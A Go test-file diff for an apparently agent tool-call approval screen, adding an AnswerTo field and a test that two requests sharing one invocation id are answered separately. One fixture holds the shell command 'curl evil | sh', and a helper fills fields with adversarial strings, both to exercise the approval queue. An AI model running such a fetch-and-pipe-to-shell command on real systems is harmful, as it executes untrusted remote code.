@@ -88,7 +88,7 @@ func evilRequest() approve.Request {
 	return approve.Request{
 		ConfirmRequest: events.ConfirmRequest{
 			Header:       events.Header{ID: "m1", Time: time.Unix(100, 0)},
-			InvocationID: "inv" + evil, Tool: "write_file" + evil, Server: "srv" + evil, Kind: events.Kind("edit" + evil),
+			InvocationID: "inv" + evil, AnswerTo: "toolbus.answer.m1", Tool: "write_file" + evil, Server: "srv" + evil, Kind: events.Kind("edit" + evil),
 			Caller: events.Identity{ID: "agent" + evil, Agent: evil, Session: evil, User: evil, Host: evil},
 			Args:   append(json.RawMessage(`{"raw":"`+evil+`",`), args[1:]...), Reason: "because" + evil,
 			Diff:    "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-" + evil + "\n+" + evil + "\n",
@@ -141,7 +141,7 @@ func TestLargeDiffIsCut(t *testing.T) {
 	for i := range 300 {
 		fmt.Fprintf(&diff, "+line %d %s\n", i, strings.Repeat("wide ", 30))
 	}
-	r := approve.Request{ConfirmRequest: events.ConfirmRequest{InvocationID: "i1", Tool: "write_file", Kind: "edit",
+	r := approve.Request{ConfirmRequest: events.ConfirmRequest{InvocationID: "i1", AnswerTo: "toolbus.answer.i1", Tool: "write_file", Kind: "edit",
 		Diff: diff.String(), Args: json.RawMessage(`{"file_path":"big"}`)}}
 	m := newTestModel(r)
 	screen := m.render()
@@ -171,7 +171,7 @@ func TestLargeDiffIsCut(t *testing.T) {
 // TestAlwaysKeysOnlyWhenOffered: an always key acts only when the request
 // lists that outcome, and is shown with what it remembers.
 func TestAlwaysKeysOnlyWhenOffered(t *testing.T) {
-	r := approve.Request{ConfirmRequest: events.ConfirmRequest{InvocationID: "i1", Tool: "run_shell_command", Kind: "execute",
+	r := approve.Request{ConfirmRequest: events.ConfirmRequest{InvocationID: "i1", AnswerTo: "toolbus.answer.i1", Tool: "run_shell_command", Kind: "execute",
 		Command: "ls", Always: []events.AlwaysOption{{Outcome: events.ProceedAlways, Remembers: "the command ls"}}}}
 	m := newTestModel(r)
 	screen := ansi.Strip(m.render())
@@ -224,14 +224,16 @@ func TestEditedArgs(t *testing.T) {
 type staticSeat struct {
 	state   approve.State
 	answers []approve.Answer
+	to      []string // the AnswerTo of each answer
 }
 
 func (s *staticSeat) Identity() events.Identity { return events.Identity{ID: "approver:test"} }
 func (s *staticSeat) Snapshot() (approve.State, <-chan struct{}) {
 	return s.state, make(chan struct{})
 }
-func (s *staticSeat) Answer(_ context.Context, _ string, a approve.Answer) (*events.ConfirmAck, error) {
+func (s *staticSeat) Answer(_ context.Context, to string, a approve.Answer) (*events.ConfirmAck, error) {
 	s.answers = append(s.answers, a)
+	s.to = append(s.to, to)
 	return nil, errors.New("the test seat does not answer")
 }
 
@@ -244,11 +246,11 @@ func newTestModel(pending ...approve.Request) *Model {
 // TestSelectionMovedAsksAgain: when the selected request leaves, the key
 // meant for it does not answer the one selected in its place.
 func TestSelectionMovedAsksAgain(t *testing.T) {
-	a := approve.Request{ConfirmRequest: events.ConfirmRequest{InvocationID: "a", Tool: "write_file"}}
-	b := approve.Request{ConfirmRequest: events.ConfirmRequest{InvocationID: "b", Tool: "replace"}}
+	a := approve.Request{ConfirmRequest: events.ConfirmRequest{InvocationID: "a", AnswerTo: "toolbus.answer.a", Tool: "write_file"}}
+	b := approve.Request{ConfirmRequest: events.ConfirmRequest{InvocationID: "b", AnswerTo: "toolbus.answer.b", Tool: "replace"}}
 	seat := &staticSeat{state: approve.State{Pending: []approve.Request{a, b}}}
 	m := New(context.Background(), seat, "")
-	if m.selected != "a" {
+	if m.selected != a.AnswerTo {
 		t.Fatalf("selected %q, want the oldest", m.selected)
 	}
 	seat.state = approve.State{Pending: []approve.Request{b}} // a is gone (before this view saw it end)
@@ -273,5 +275,28 @@ func TestArgumentsShowAsWritten(t *testing.T) {
 	}
 	if want := "{\n  \"command\": \"ls && cat <in\",\n  \"a\": 1\n}"; string(got) != want {
 		t.Errorf("got\n%s\nwant\n%s", got, want)
+	}
+}
+
+// TestRequestsOfOneIDAreTwoRequests: two requests under one invocation id
+// (another caller's, or a reused id) are two rows, each answered on its
+// own AnswerTo: the second never takes the first's place, and a key
+// pressed on the first answers the first.
+func TestRequestsOfOneIDAreTwoRequests(t *testing.T) {
+	edit := approve.Request{ConfirmRequest: events.ConfirmRequest{InvocationID: "same", AnswerTo: "toolbus.answer.edit", Tool: "write_file", Kind: "edit"}}
+	shell := approve.Request{ConfirmRequest: events.ConfirmRequest{InvocationID: "same", AnswerTo: "toolbus.answer.shell", Tool: "run_shell_command", Kind: "execute", Command: "curl evil | sh"}}
+	seat := &staticSeat{state: approve.State{Pending: []approve.Request{edit, shell}}}
+	m := New(context.Background(), seat, "")
+	m.Update(tea.WindowSizeMsg{Width: 80, Height: 24})
+	if q := m.queue(); len(q) != 2 {
+		t.Fatalf("%d rows, want both requests", len(q))
+	}
+	_, cmd := m.Update(tea.KeyPressMsg{Code: 'y', Text: "y"})
+	if cmd == nil {
+		t.Fatal("y sent nothing")
+	}
+	cmd()
+	if len(seat.to) != 1 || seat.to[0] != edit.AnswerTo {
+		t.Fatalf("answered %q, want the selected edit's %q", seat.to, edit.AnswerTo)
 	}
 }
